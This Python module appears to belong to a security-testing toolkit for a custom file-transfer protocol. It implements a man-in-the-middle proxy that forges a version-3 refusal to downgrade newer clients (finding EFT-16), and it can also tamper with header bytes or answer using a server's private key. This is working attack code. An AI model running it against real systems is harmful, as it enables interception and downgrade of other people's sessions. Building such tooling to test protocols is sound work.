"""The version byte is not authenticated: a man in the middle picks the version.

Nothing in a version-3 frame protects its header, so version negotiation is whatever
the network says. A client that speaks a newer version first and falls back to 3 when
refused can be downgraded by anyone in the middle: we answer its first frame with the
exact bytes a version-3-only server sends (1607, then close) without asking the
server, and relay the version-3 session it then opens (where every other attack in
this toolkit applies). We also ask the real server the same question and report what
it would have said: a version-3-only server sends exactly our bytes; a server that
speaks the newer version answers in it, and the client never learns. Success if a
client sent a non-3 frame, got our forged refusal, and then spoke version 3 through us.
A client that does not come back in version 3 within ``--linger`` seconds did not.

``--edit-header OFFSET`` (version 4): instead of refusing, change one byte of the
client's first header (the version byte, offset 16, becomes 3; any other byte is XORed
with 1) and relay it. Our server checks that header byte for byte, so it refuses. With
``--server-key`` (the server's server.key, lab access) we go further and answer as the
server would if it had accepted the edited header: a genuine message 2 from the real
server key, over the edited header. The client mixed the header it sent into the
handshake (the prologue), so that message 2 fails to authenticate. Success if the
client goes on (sends message 3) after the edit.
"""

from __future__ import annotations

import argparse
import asyncio
from pathlib import Path

from eft_protocol.codes import ResponseCode
from eft_protocol.noise import HandshakeState, KeyPair
from eft_protocol.v4.handshake import ServerHello, prologue, server_hello_header

from .common import (
    AttackError,
    ConnectionClosed,
    Out,
    ServerLink,
    add_listen_argument,
    add_target_argument,
)
from .framing import Frame, response
from .proxy import Interceptor, MitmConnection, MitmProxy
from .v4 import add_protocol_argument, read_server_key

FINDING = "EFT-16"
SUMMARY = "forge a version-3 refusal of a newer client's hello (downgrade)"
FORGED = response(ResponseCode.SERVER_ERROR)


def add_arguments(parser: argparse.ArgumentParser) -> None:
    add_target_argument(parser)
    add_listen_argument(parser)
    add_protocol_argument(parser)
    parser.add_argument(
        "--linger", type=float, default=3.0, help="seconds to wait for a fallback (3)"
    )
    parser.add_argument("--edit-header", type=int, help="edit this byte of the first header")
    parser.add_argument("--server-key", help="with --edit-header: answer with this key")


async def real_refusal(target: str, raw: bytes) -> bytes:
    """What the real server answers to this first frame."""
    link = await ServerLink.open(target)
    try:
        link.writer.write(raw)
        answer = await link.receive(3.0)
        return answer.raw
    except ConnectionClosed:
        return b""
    finally:
        await link.close()


class Downgrade(Interceptor):
    def __init__(self, out: Out, target: str) -> None:
        self.out, self.target = out, target
        self.refused: list[bytes] = []
        self.real: bytes | None = None
        self.fallback = False

    linger = 3.0

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.version != 3:
            self.out.step(f"client offered version {frame.version}: forged a v3 refusal")
            self.refused.append(frame.raw)
            self.real = await real_refusal(self.target, frame.raw)
            await conn.to_client(FORGED)
            conn.close_client()
            conn.close_server()
            return
        if self.refused:
            self.fallback = True
        await conn.to_server(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        if self.fallback:
            self.proxy.finish(True)
        elif self.refused:  # no fallback yet: give the client time to come back
            asyncio.get_running_loop().call_later(self.linger, self._no_fallback)

    def _no_fallback(self) -> None:
        if not self.fallback:
            self.proxy.finish(False)


def answer_as_server(key: KeyPair, first_header: bytes, message_1: bytes) -> bytes:
    """Message 2 as a server holding ``key`` makes it after reading ``first_header``."""
    noise = HandshakeState(initiator=False, static=key, prologue=prologue(first_header))
    noise.read_message(message_1)
    return server_hello_header() + noise.write_message(ServerHello(1 << 40).encode())


class EditHeader(Interceptor):
    """Version 4: change one byte of the first header; relay it, or answer ourselves."""

    def __init__(self, out: Out, offset: int, server_key: bytes | None, linger: float) -> None:
        if not 0 <= offset < 23:
            raise AttackError("--edit-header takes an offset in the 23-byte request header")
        self.out, self.offset, self.linger = out, offset, linger
        self.key = KeyPair.from_private(server_key) if server_key else None
        self.edited = 0
        self.server_answers: list[int] = []  # the real server's answers to edited headers
        self.continued = 0  # clients that sent message 3 after an edit

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if "edited" in conn.scratch:
            self.continued += 1
            self.out.step("the client went on after the edit (message 3)")
            conn.close_client()
            return
        header = bytearray(frame.raw[:23])
        if self.offset == 16:
            header[16] = 3
        else:
            header[self.offset] ^= 0x01
        conn.scratch["edited"] = True
        self.edited += 1
        self.out.step(f"edited byte {self.offset} of the first header", header=bytes(header))
        if self.key is None:
            await conn.to_server(bytes(header) + frame.payload)
            return
        # Answer as the real server would after accepting the edited header.
        await conn.to_client(answer_as_server(self.key, bytes(header), frame.payload))

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        self.server_answers.append(frame.code)
        await conn.to_client(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        asyncio.get_running_loop().call_later(self.linger, self.proxy.finish, False)


async def edit_header(args: argparse.Namespace, out: Out) -> bool:
    key = read_server_key(Path(args.server_key)) if args.server_key else None
    editor = EditHeader(out, args.edit_header, key, args.linger)
    await MitmProxy(args.target, editor, out).run(args.listen, args.timeout)
    fields = {
        "edited": editor.edited,
        "continued": editor.continued,
        "server_answers": editor.server_answers,
        "answered_with_server_key": key is not None,
    }
    if editor.continued:
        return out.result(True, "the client went on after an edited first header", **fields)
    how = (
        "our message 2, made with the real server key over the edited header, failed to "
        "authenticate at the client"
        if key
        else "the server refused the edited header"
    )
    return out.result(False, f"the edit was detected: {how}; no message 3", **fields)


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.edit_header is not None:
        return await edit_header(args, out)
    downgrade = Downgrade(out, args.target)
    downgrade.linger = args.linger
    await MitmProxy(args.target, downgrade, out).run(args.listen, args.timeout)
    real = downgrade.real or b""
    if real == FORGED:
        said = "the server itself only speaks version 3: our refusal is byte for byte its own"
    else:
        code = int.from_bytes(real[1:3], "little") if len(real) >= 3 else None
        said = (
            f"the server would have answered version {real[0]} (code {code}): "
            "it speaks the newer version, and we hid it"
            if real
            else "the server closed the connection without a word"
        )
    out.step(said, real=real)
    return out.result(
        downgrade.fallback,
        "the client fell back to version 3 after our forged refusal"
        if downgrade.fallback
        else "no client fell back to version 3 after our refusal",
        forged=FORGED,
        real=real,
        refused=len(downgrade.refused),
        fallback=downgrade.fallback,
        server_speaks_newer=bool(real) and real[0] != 3,
    )
